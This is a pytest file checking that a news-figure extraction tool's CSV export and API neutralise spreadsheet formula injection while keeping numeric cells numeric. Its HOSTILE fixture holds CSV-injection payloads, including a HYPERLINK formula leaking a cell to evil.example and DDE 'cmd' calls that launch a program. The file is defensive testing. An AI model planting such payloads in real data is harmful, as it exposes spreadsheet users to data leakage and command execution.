"""CSV written for spreadsheets (`dateline export --format csv`, the API's ``?format=csv``) never holds a
formula: a text cell starting with =, +, -, @, tab or CR gets a leading quote (OWASP); numbers stay numbers."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from dateline.model import Article, Extraction, Figure
from dateline.serve import create_app
from dateline.store import Store

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "id": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "title": "+cmd|' /C calc'!A0",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "text": "-2+3+cmd|' /C calc'!A0 said officials.",
    "url": "\t=1+1",
    "dct_evidence": "\r=1+1",
}


def _store(db: Path) -> None:
    art = Article(dct="2025-05-12", **HOSTILE)
    fig = Figure(article_id=art.id, text="-5", start=0, end=2, value=-5.0, value_max=-2.5, category="=killed",
                 qualifier="-at least", source="Officials")
    with Store(db) as s:
        s.add([Extraction(article=art, figures=[fig])])


def _check_cells(rows: list[dict[str, str]], numeric: set[str]) -> None:
    """As a spreadsheet importer reads them: no text cell can start a formula; numeric cells parse as numbers."""
    assert rows
    for row in rows:
        for col, cell in row.items():
            if cell and cell.startswith(FORMULA_START):
                assert col in numeric, (col, cell)
                float(cell)


def test_export_csv_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    db = tmp_path / "f.duckdb"
    _store(db)
    with Store(db, read_only=True) as s:
        s.export("csv", tmp_path / "out")
    with (tmp_path / "out" / "articles.csv").open(newline="", encoding="utf-8") as fh:
        arts = list(csv.DictReader(fh))
    _check_cells(arts, numeric=set())
    assert {k: arts[0][k] for k in HOSTILE} == {k: "'" + v for k, v in HOSTILE.items()}  # shown, not lost
    with (tmp_path / "out" / "figures.csv").open(newline="", encoding="utf-8") as fh:
        figs = list(csv.DictReader(fh))
    _check_cells(figs, numeric={"value", "value_max", "start", "end"})
    fig = figs[0]
    assert (float(fig["value"]), float(fig["value_max"])) == (-5.0, -2.5)  # numbers, not "'-5"
    assert (fig["text"], fig["category"], fig["qualifier"]) == ("'-5", "'=killed", "'-at least")
    assert fig["article_id"] == "'" + HOSTILE["id"]


@pytest.mark.parametrize("path", ["/api/articles", "/api/figures", "/api/articles/{id}"])
def test_api_csv_neutralises_formulas_and_keeps_numbers(tmp_path: Path, path: str) -> None:
    db = tmp_path / "f.duckdb"
    _store(db)
    with TestClient(create_app(db)) as c:
        r = c.get(path.format(id=HOSTILE["id"].replace("?", "%3F")), params={"format": "csv"})
        assert r.status_code == 200, r.text
        rows = list(csv.DictReader(io.StringIO(r.text)))
    _check_cells(rows, numeric={"value", "value_max", "start", "end", "chars", "context_start"})
    if path == "/api/articles":
        assert (rows[0]["id"], rows[0]["title"], rows[0]["source"], rows[0]["lead"]) == \
            tuple("'" + HOSTILE[k] for k in ("id", "title", "source", "text"))
    if path == "/api/figures":
        assert (float(rows[0]["value"]), rows[0]["text"]) == (-5.0, "'-5")
